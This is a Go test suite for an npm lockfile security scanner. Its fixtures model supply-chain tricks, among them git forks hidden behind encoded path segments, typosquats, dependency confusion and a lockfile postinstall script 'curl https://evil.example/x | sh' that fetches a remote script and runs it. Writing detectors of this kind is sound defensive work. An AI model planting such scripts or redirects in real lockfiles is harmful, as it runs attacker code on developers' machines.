		{"source-changed/git-pin-dropped-is-medium", "source-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`)), def,
			[]got{{"source-changed", "medium", "a", "1.0.0", "", ""}}},
		// A git host serves everyone's code: another owner is another source.
		{"source-changed/git-fork-same-host", "source-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/octo/a.git#0123456789abcdef0123456789abcdef01234567"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"git+ssh://git@github.com/evil/a.git#fedcba9876543210fedcba9876543210fedcba98"`)), def,
			[]got{{"source-changed", "high", "a", "1.0.1", "1.0.0", ""}}},
		{"source-changed/git-fork-across-v1-upgrade", "source-changed",
			lockV1(t, `"a":{"version":"github:octo/a#0123456789abcdef0123456789abcdef01234567","from":"github:octo/a"}`),
			lock(t, 3, `"a":"github:octo/a"`, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/evil/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"source-changed", "high", "a", "git+ssh://git@github.com/evil/a.git#0123456789abcdef0123456789abcdef01234567", "github:octo/a#0123456789abcdef0123456789abcdef01234567", ""}}},
		{"source-changed/git-tarball-fork-on-code-host", "source-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://codeload.github.com/octo/a/tar.gz/0123456789abcdef0123456789abcdef01234567"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"https://codeload.github.com/evil/a/tar.gz/fedcba9876543210fedcba9876543210fedcba98"`, `"integrity":"sha512-b"`)), def,
			[]got{{"source-changed", "high", "a", "1.0.1", "1.0.0", ""}}},
		// npm's URL parser resolves dot segments, encoded too: the fork hides
		// behind /octo/foo/../../evil/foo.
		{"source-changed/code-host-dot-segments", "source-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://codeload.github.com/octo/a/tar.gz/0123456789abcdef0123456789abcdef01234567"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"https://codeload.github.com/octo/a/%2e%2e/%2E%2E/evil/a/tar.gz/fedcba9876543210fedcba9876543210fedcba98"`, `"integrity":"sha512-b"`)), def,
			[]got{{"source-changed", "high", "a", "1.0.1", "1.0.0", ""}}},
		{"source-changed/code-host-encoded-slash", "source-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://codeload.github.com/octo/a/tar.gz/0123456789abcdef0123456789abcdef01234567"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"https://codeload.github.com/evil%2F..%2Focto/a/tar.gz/fedcba9876543210fedcba9876543210fedcba98"`, `"integrity":"sha512-b"`)), def,
			[]got{{"source-changed", "high", "a", "1.0.1", "1.0.0", ""}}},
		{"source-changed/code-host-same-repo-no-fire", "source-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://codeload.github.com/octo/a/tar.gz/0123456789abcdef0123456789abcdef01234567"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"https://codeload.github.com/Octo/a/tar.gz/fedcba9876543210fedcba9876543210fedcba98"`, `"integrity":"sha512-b"`)), def, nil},
		{"source-changed/git-same-repo-new-commit-no-fire", "source-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/octo/a.git#0123456789abcdef0123456789abcdef01234567"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"git+https://github.com/Octo/a.git#fedcba9876543210fedcba9876543210fedcba98"`)), def, nil},
		// The v1 -> v3 upgrade rewrites the URL form of the same commit:
		// no change, so neither an update from git nor a new git source.
		{"source-changed/git-v1-upgrade-same-commit-no-fire", "source-changed",
			lockV1(t, `"a":{"version":"github:octo/a#0123456789abcdef0123456789abcdef01234567","from":"github:octo/a"}`),
			lock(t, 3, `"a":"github:octo/a"`, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/octo/a.git#0123456789abcdef0123456789abcdef01234567"`)), def, nil},
		{"non-registry-source/git-v1-upgrade-same-commit-no-fire", "non-registry-source",
			lockV1(t, `"a":{"version":"github:octo/a#0123456789abcdef0123456789abcdef01234567","from":"github:octo/a"}`),
			lock(t, 3, `"a":"github:octo/a"`, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/octo/a.git#0123456789abcdef0123456789abcdef01234567"`)), def, nil},
		{"resolved-changed/git-shorthand-to-ssh-same-commit-is-low", "resolved-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"github:o/a#0123456789abcdef0123456789abcdef01234567"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"resolved-changed", "low", "a", "1.0.0", "", ""}}},
		{"source-changed/registry-resolved-omitted-no-fire", "source-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-a1.0.0"`)), def, nil},
		{"source-changed/same-registry-no-fire", "source-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), lock(t, 3, ``, pkg("node_modules/a", "1.0.1")), def, nil},
		{"resolved-changed/other-url", "resolved-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://mirror.example/a-1.0.0.tgz"`, `"integrity":"sha512-a1.0.0"`)), def,
			[]got{{"resolved-changed", "high", "a", "1.0.0", "", ""}}},
		{"resolved-changed/http-to-https-is-low", "resolved-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"http://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-a"`)), def,
			[]got{{"resolved-changed", "low", "a", "1.0.0", "", ""}}},
		{"resolved-changed/https-to-http-is-high", "resolved-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"http://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-a"`)), def,
			[]got{{"resolved-changed", "high", "a", "1.0.0", "", ""}}},
		{"resolved-changed/git-https-to-ssh-same-commit-is-low", "resolved-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+https://github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"resolved-changed", "low", "a", "1.0.0", "", ""}}},
		{"resolved-changed/git-other-commit-is-high", "resolved-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+https://github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#fedcba9876543210fedcba9876543210fedcba98"`)), def,
			[]got{{"resolved-changed", "high", "a", "1.0.0", "", ""}}},
		{"non-registry-source/git", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"non-registry-source", "medium", "a", "1.0.0", "", ""}}},
		{"non-registry-source/tarball-host", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://cdn.example.com/a.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"non-registry-source", "medium", "a", "1.0.0", "", ""}}},
		{"non-registry-source/registry-not-allowed", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.yarnpkg.com/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"non-registry-source", "medium", "a", "1.0.0", "", ""}}},
		{"non-registry-source/inBundle-flag-on-top-level-entry-ignored", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/newdep", `"version":"1.0.0"`, `"inBundle":true`, `"resolved":"https://evil.example/newdep.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"non-registry-source", "medium", "newdep", "1.0.0", "", ""}}},
		{"non-registry-source/real-bundled-copy-no-fire", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0"), raw("node_modules/a/node_modules/b", `"version":"1.0.0"`, `"inBundle":true`)), def, nil},
		{"weak-integrity/inBundle-flag-with-resolved-ignored", "weak-integrity",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/x/node_modules/newdep", `"version":"1.0.0"`, `"inBundle":true`, `"resolved":"https://registry.npmjs.org/newdep/-/newdep-1.0.0.tgz"`), pkg("node_modules/x", "1.0.0")), def,
			[]got{{"weak-integrity", "medium", "newdep", "1.0.0", "", ""}}},
		// npm keeps the integrity a bundled package.json carried (ganache's
		// bundled brorand, a real npm-written lockfile, has a sha1).
		{"weak-integrity/bundled-copy-with-sha1-no-fire", "weak-integrity",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/ganache", "7.9.2"), raw("node_modules/ganache/node_modules/brorand", `"version":"1.1.0"`, `"integrity":"sha1-EsJe/kCkXjwyPrhnWgoM5XsiNx8="`, `"inBundle":true`)), def, nil},
		{"non-registry-source/npm-registry-no-fire", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), def, nil},
		{"non-registry-source/missing-resolved-no-fire", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-x"`)), def, nil},
		{"insecure-source/http", "insecure-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"http://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"insecure-source", "high", "a", "1.0.0", "", ""}}},
		{"insecure-source/git-protocol", "insecure-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git://github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"insecure-source", "high", "a", "1.0.0", "", ""}}},
		{"insecure-source/unchanged-http-no-fire", "insecure-source",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"http://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-x"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"http://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-x"`)), def, nil},

		// typosquat
		{"typosquat/new-name", "typosquat",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/crossenv", "6.1.1")), withIndex,
			[]got{{"typosquat", "high", "crossenv", "6.1.1", "", "cross-env"}}},
		{"typosquat/name-already-in-base-no-fire", "typosquat",
			lock(t, 3, ``, pkg("node_modules/crossenv", "6.1.0")), lock(t, 3, ``, pkg("node_modules/crossenv", "6.1.0"), pkg("node_modules/x/node_modules/crossenv", "7.0.0"), pkg("node_modules/x", "1.0.0")), withIndex, nil},
		{"typosquat/weak-rule-alone-is-medium", "typosquat",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/node-mkdirp", "0.0.1")), withIndex,
			[]got{{"typosquat", "medium", "node-mkdirp", "0.0.1", "", "mkdirp"}}},
		{"typosquat/weak-rule-with-install-script-is-high", "typosquat",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/node-mkdirp", "0.0.1", script)), withIndex,
			[]got{{"typosquat", "high", "node-mkdirp", "0.0.1", "", "mkdirp"}}},
		{"typosquat/weak-rule-direct-dependency-is-high", "typosquat",
			lock(t, 3, ``), lock(t, 3, `"node-mkdirp":"^0.0.1"`, pkg("node_modules/node-mkdirp", "0.0.1")), withIndex,
			[]got{{"typosquat", "high", "node-mkdirp", "0.0.1", "", "mkdirp"}}},
		{"typosquat/weak-rule-transitive-is-medium", "typosquat",
			lock(t, 3, `"x":"^1"`, pkg("node_modules/x", "1.0.0")), lock(t, 3, `"x":"^1"`, pkg("node_modules/x", "1.1.0", `"dependencies":{"node-mkdirp":"^0.0.1"}`), pkg("node_modules/node-mkdirp", "0.0.1")), withIndex,
			[]got{{"typosquat", "medium", "node-mkdirp", "0.0.1", "", "mkdirp"}}},
		{"typosquat/no-index-no-fire", "typosquat",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/crossenv", "6.1.1")), def, nil},

		// dependency-confusion
		{"dependency-confusion/internal-scope-from-npm", "dependency-confusion",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/@acme/auth", "9.9.9")), internalCfg,
			[]got{{"dependency-confusion", "critical", "@acme/auth", "9.9.9", "", ""}}},
		{"dependency-confusion/internal-name-from-npm", "dependency-confusion",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/acme-utils", "1.0.0")), internalCfg,
			[]got{{"dependency-confusion", "critical", "acme-utils", "1.0.0", "", ""}}},
		// A new link to a folder outside the project links code that is not
		// part of the change; one to a workspace inside it is a monorepo.
		{"non-registry-source/new-link-outside-project", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, `"x":"file:../x"`, raw("node_modules/x", `"resolved":"../x"`, `"link":true`), raw("../x", `"name":"x"`, `"version":"1.0.0"`)), def,
			[]got{{"non-registry-source", "medium", "x", "1.0.0", "", ""}}},
		{"non-registry-source/new-workspace-link-no-fire", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/x", `"resolved":"packages/x"`, `"link":true`), raw("packages/x", `"name":"x"`, `"version":"1.0.0"`)), def, nil},
		// No resolved and a spec for a version: npm fetches <name>@<spec>.
		{"source-changed/version-is-a-url", "source-changed",
			lock(t, 3, ``, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, ``, raw("node_modules/lodash", `"version":"https://evil.example/lodash.tgz"`)), def,
			[]got{{"source-changed", "high", "lodash", "https://evil.example/lodash.tgz", "4.17.21", ""}}},
		{"name-mismatch/version-is-an-alias", "name-mismatch",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, `"lodash":"^4.17.21"`, raw("node_modules/lodash", `"version":"npm:evil-pkg@4.17.21"`)), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		// npm 7+ runs an entry's own scripts: npm never writes them.
		{"lockfile-scripts/added-to-unchanged-entry", "lockfile-scripts",
			lock(t, 3, ``, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, ``, pkg("node_modules/lodash", "4.17.21", `"scripts":{"postinstall":"curl https://evil.example/x | sh"}`)), def,
			[]got{{"lockfile-scripts", "critical", "lodash", "4.17.21", "", ""}}},
		{"lockfile-scripts/counts-as-install-script", "install-script",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"scripts":{"preinstall":"x"}`)), def,
			[]got{{"install-script", "high", "a", "1.0.0", "", ""}}},
		{"lockfile-scripts/non-object", "lockfile-scripts",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"scripts":"x"`)), def,
			[]got{{"lockfile-scripts", "critical", "a", "1.0.0", "", ""}}},
		{"lockfile-scripts/unchanged-from-base-no-fire", "lockfile-scripts",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"scripts":{"test":"x"}`)), lock(t, 3, ``, pkg("node_modules/a", "1.0.1", `"scripts":{"test":"x"}`)), def, nil},
		{"dependency-confusion/internal-scope-other-case", "dependency-confusion",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/@ACME/auth", "9.9.9")), internalCfg,
			[]got{{"dependency-confusion", "critical", "@ACME/auth", "9.9.9", "", ""}}},
		{"dependency-confusion/internal-name-other-case", "dependency-confusion",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/Acme-Utils", "1.0.0")), internalCfg,
			[]got{{"dependency-confusion", "critical", "Acme-Utils", "1.0.0", "", ""}}},
		{"dependency-confusion/internal-registry-no-fire", "dependency-confusion",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/@acme/auth", `"version":"1.0.0"`, `"resolved":"https://npm.acme.internal/@acme/auth/-/auth-1.0.0.tgz"`, `"integrity":"sha512-x"`)), internalCfg, nil},
		{"dependency-confusion/other-scope-no-fire", "dependency-confusion",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/@acmecorp/x", "1.0.0")), internalCfg, nil},

		// license-changed / license-policy
		{"license-changed/mit-to-bsd", "license-changed",
			lock(t, 3, ``, pkg("node_modules/fast-uri", "3.0.2", `"license":"MIT"`)), lock(t, 3, ``, pkg("node_modules/fast-uri", "3.0.3", `"license":"BSD-3-Clause"`)), def,
			[]got{{"license-changed", "medium", "fast-uri", "3.0.3", "3.0.2", ""}}},
		{"license-changed/dropped-is-low", "license-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"MIT"`)), lock(t, 3, ``, pkg("node_modules/a", "1.0.1")), def,
			[]got{{"license-changed", "low", "a", "1.0.1", "1.0.0", ""}}},
		{"license-changed/same-expression-reordered-no-fire", "license-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"(MIT OR Apache-2.0)"`)), lock(t, 3, ``, pkg("node_modules/a", "1.0.1", `"license":"(Apache-2.0 OR MIT)"`)), def, nil},
		{"license-changed/v1-base-no-fire", "license-changed",
			lockV1(t, pkg("a", "1.0.0")), lock(t, 3, ``, pkg("node_modules/a", "1.0.1", `"license":"MIT"`)), def, nil},
		{"license-policy/denied", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"GPL-3.0-only"`)), licCfg,
			[]got{{"license-policy", "high", "a", "1.0.0", "", ""}}},
		// An entry deleted while the project still declares it: npm install
		// resolves a fresh version.
		{"unpinned-dependency/entry-deleted", "unpinned-dependency",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")), lock(t, 3, `"lodash":"^4.17.21"`), def,
			[]got{{"unpinned-dependency", "medium", "lodash", "", "", ""}}},
		{"unpinned-dependency/declaration-removed-too-no-fire", "unpinned-dependency",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")), lock(t, 3, ``), def, nil},
		// Not SPDX, but it names a denied license.
		{"license-policy/malformed-naming-denied", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"MIT,GPL-3.0-only"`)), licCfg,
			[]got{{"license-policy", "high", "a", "1.0.0", "", ""}}},
		{"license-policy/deprecated-id-denied", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"GPL-3.0"`)), licCfg,
			[]got{{"license-policy", "high", "a", "1.0.0", "", ""}}},
		{"license-policy/or-with-allowed-branch-no-fire", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"(MIT OR GPL-3.0-only)"`)), licCfg, nil},
		{"license-policy/and-with-denied", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"(MIT AND AGPL-3.0-only)"`)), licCfg,
			[]got{{"license-policy", "high", "a", "1.0.0", "", ""}}},
		{"license-policy/not-allowed", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"BSD-3-Clause"`)), allowCfg,
			[]got{{"license-policy", "high", "a", "1.0.0", "", ""}}},
		{"license-policy/allowed-case-insensitive", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"mit"`)), allowCfg, nil},
		{"license-changed/second-copy-relicensed", "license-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"MIT"`)),
			lock(t, 3, ``, pkg("node_modules/a", "1.1.0", `"license":"MIT"`), pkg("node_modules/x/node_modules/a", "1.1.0", `"license":"SSPL-1.0"`), pkg("node_modules/x", "1.0.0")), def,
			[]got{{"license-changed", "medium", "a", "1.1.0", "1.0.0", ""}}},
		{"license-policy/unlicensed-under-allow-is-low", "license-policy",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"license":"SEE LICENSE IN LICENSE.md"`)), allowCfg,
			[]got{{"license-policy", "low", "a", "1.0.0", "", ""}}},

		// native-addon
		{"native-addon/new-node-gyp-dependency", "native-addon",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), lock(t, 3, ``, pkg("node_modules/a", "1.1.0", `"dependencies":{"node-gyp-build":"^4"}`)), def,
			[]got{{"native-addon", "low", "a", "1.1.0", "1.0.0", ""}}},
		{"native-addon/already-native-no-fire", "native-addon",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0", `"dependencies":{"nan":"^2"}`)), lock(t, 3, ``, pkg("node_modules/a", "1.1.0", `"dependencies":{"nan":"^2"}`)), def, nil},
		{"native-addon/platform-packages-grouped", "native-addon",
			lock(t, 3, ``), lock(t, 3, ``,
				pkg("node_modules/esbuild", "0.25.1", `"optionalDependencies":{"@esbuild/linux-x64":"0.25.1","@esbuild/darwin-arm64":"0.25.1"}`),
				pkg("node_modules/@esbuild/linux-x64", "0.25.1", `"optional":true`, `"os":["linux"]`, `"cpu":["x64"]`),
				pkg("node_modules/@esbuild/darwin-arm64", "0.25.1", `"optional":true`, `"os":["darwin"]`, `"cpu":["arm64"]`)), def,
			[]got{{"native-addon", "info", "esbuild", "0.25.1", "", ""}}},

		// broad-update
		{"broad-update/over-threshold", "broad-update",
			lock(t, 3, `"top":"^1"`, pkg("node_modules/top", "1.0.0", `"dependencies":{"t1":"*","t2":"*","t3":"*"}`), pkg("node_modules/t1", "1.0.0"), pkg("node_modules/t2", "1.0.0"), pkg("node_modules/t3", "1.0.0")),
			lock(t, 3, `"top":"^1"`, pkg("node_modules/top", "1.0.0", `"dependencies":{"t1":"*","t2":"*","t3":"*"}`), pkg("node_modules/t1", "2.0.0"), pkg("node_modules/t2", "1.1.0"), pkg("node_modules/t3", "1.0.1")), broadCfg,
			[]got{{"broad-update", "medium", "top", "1.0.0", "", ""}}},
		{"broad-update/under-threshold-no-fire", "broad-update",
			lock(t, 3, ``, pkg("node_modules/t1", "1.0.0")), lock(t, 3, ``, pkg("node_modules/t1", "2.0.0")), broadCfg, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if !slices.Contains(checks.IDs(), tc.check) {
				t.Fatalf("unknown check %q", tc.check)
			}
			if diff := cmp.Diff(tc.want, run(t, tc.base, tc.head, tc.cfg, tc.check)); diff != "" {
				t.Errorf("%s diff (-want +got):\n%s", tc.check, diff)
			}
		})
	}
}

func TestDuplicateKeys(t *testing.T) {
	data := []byte(`{"name":"r","lockfileVersion":3,"packages":{"":{"name":"r"},
"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-x"},
"node_modules/a":{"version":"1.0.0","resolved":"https://evil.example/a.tgz","integrity":"sha512-y"}}}`)
	head, err := lockfile.Parse("package-lock.json", data)
	if err != nil {
		t.Fatal(err)
	}
	in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(nil, head), Config: checks.DefaultConfig()}
	fs := checks.DuplicateKeys(in)
	if len(fs) != 1 {
		t.Fatalf("DuplicateKeys = %+v, want one finding", fs)
	}
	f := fs[0]
	if f.Severity != checks.Critical || f.Package != "a" || f.Version != "1.0.0" || f.Line != 3 || !strings.Contains(f.Message, "lines 2 and 3") {
		t.Errorf("DuplicateKeys finding = %+v", f)
	}
	// The same duplicate already in the base is reported, but not as critical.
	in.Changes = diff.Compare(head, head)
	if fs := checks.DuplicateKeys(in); len(fs) != 1 || fs[0].Severity != checks.Medium {
		t.Errorf("pre-existing duplicate = %+v, want one medium finding", fs)
	}
}

func TestOddPaths(t *testing.T) {
	head, err := lockfile.Parse("package-lock.json", []byte(`{"lockfileVersion":3,"packages":{"":{"name":"r"},
"node_modules/lodash":{"version":"4.17.21","resolved":"https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz","integrity":"sha512-x"},
"node_modules/x/../lodash":{"version":"4.17.21","resolved":"https://evil.example/lodash.tgz","integrity":"sha512-y"},
"node_modules//a":{"version":"1.0.0"},
"node_modules\\b":{"version":"1.0.0"},
"../outside/node_modules/c":{"version":"1.0.0"},
"packages/app":{"version":"1.0.0"}}}`))
	if err != nil {
		t.Fatal(err)
	}
	in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(nil, head), Config: checks.DefaultConfig()}
	var keys []string
	for _, f := range checks.OddPaths(in) {
		if f.Severity != checks.Critical || f.Line == 0 {
			t.Errorf("finding %+v: want critical with a line", f)
		}
		keys = append(keys, f.Path)
	}
	if want := []string{"node_modules/x/../lodash", "node_modules//a", "node_modules\\b"}; !slices.Equal(keys, want) {
		t.Errorf("odd paths = %q, want %q (a workspace outside the project is a path npm writes)", keys, want)
	}
	in.Changes = diff.Compare(head, head)
	for _, f := range checks.OddPaths(in) {
		if f.Severity != checks.Medium {
			t.Errorf("an odd path the base already had: %+v, want medium", f)
		}
	}
}

// TestCaseCollisions checks that two install paths differing only in case,
// one folder on macOS and Windows, are reported: critical when new, medium
// when the base had both, and never for a lone legacy upper-case name.
func TestCaseCollisions(t *testing.T) {
	entry := func(path, name, integrity string) string {
		return raw(path, `"version":"4.17.21"`, fmt.Sprintf(`"resolved":"https://registry.npmjs.org/%s/-/%s-4.17.21.tgz"`, name, name), fmt.Sprintf(`"integrity":%q`, integrity))
	}
	base := lock(t, 3, ``, entry("node_modules/lodash", "lodash", "sha512-good"), entry("node_modules/JSONStream", "JSONStream", "sha512-j"))
	head := lock(t, 3, ``, entry("node_modules/lodash", "lodash", "sha512-good"), entry("node_modules/JSONStream", "JSONStream", "sha512-j"),
		entry("node_modules/Lodash", "Lodash", "sha512-evil"), entry("node_modules/a/node_modules/X", "X", "sha512-1"), entry("node_modules/a/node_modules/x", "x", "sha512-2"))
	in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(base, head), Config: checks.DefaultConfig()}
	var got []string
	for _, f := range checks.OddPaths(in) {
		got = append(got, fmt.Sprintf("%s %s %s", f.Severity, f.Path, f.Values["collides"]))
		if f.Line == 0 || !strings.Contains(f.Message, "differ only in case") {
			t.Errorf("finding %+v: want a line and a message saying why", f)
		}
	}
	want := []string{"critical node_modules/Lodash node_modules/lodash", "critical node_modules/a/node_modules/X node_modules/a/node_modules/x"}
	if !slices.Equal(got, want) {
		t.Errorf("case collisions = %q, want %q", got, want)
	}
	in.Changes = diff.Compare(head, head)
	for _, f := range checks.OddPaths(in) {
		if f.Severity != checks.Medium {
			t.Errorf("a collision the base already had: %+v, want medium", f)
		}
	}
}

func scenario(t *testing.T, name string) *diff.Changes {
	t.Helper()
	dir := filepath.Join("..", "..", "testdata", "lockfiles", name)
	var ls [2]*lockfile.Lockfile
	for i, side := range []string{"base", "head"} {
		data, err := os.ReadFile(filepath.Join(dir, side+".json"))
		if err != nil {
			t.Fatal(err)
		}
		if ls[i], err = lockfile.Parse(side+".json", data); err != nil {
			t.Fatal(err)
		}
	}
	return diff.Compare(ls[0], ls[1])
}

// TestRealScenarios pins what the checks report on real dependency updates and
// on the crafted attacks derived from them (testdata/README.md): every attack
// is caught, and ordinary updates raise nothing above low.
func TestRealScenarios(t *testing.T) {
	cfg := checks.DefaultConfig()
	cfg.Typosquat = fakeIndex{"crossenv": "cross-env"}
	type key struct{ Check, Severity, Package string }
	tests := map[string][]key{
		"v1-octokit-webhooks-dependabot-lodash": {
			{"resolved-changed", "low", "callsites"}, {"resolved-changed", "low", "minimist"}},
		"v2-octokit-webhooks-es5-ext-install-script": {
			{"install-script", "high", "@apidevtools/json-schema-ref-parser"},
			{"source-changed", "high", "@apidevtools/json-schema-ref-parser"},
			{"install-script", "high", "es5-ext"},
			{"non-registry-source", "medium", "@apidevtools/json-schema-ref-parser"}},
		"v2-octokit-webhooks-git-resolved-ssh":            {{"resolved-changed", "low", "@apidevtools/json-schema-ref-parser"}},
		"v3-octokit-webhooks-license-change":              {{"license-changed", "medium", "fast-uri"}},
		"v3-workspaces-npm-cli-dependabot-babel-traverse": nil,
		"attack-integrity-swap":                           {{"integrity-changed", "critical", "undici"}},
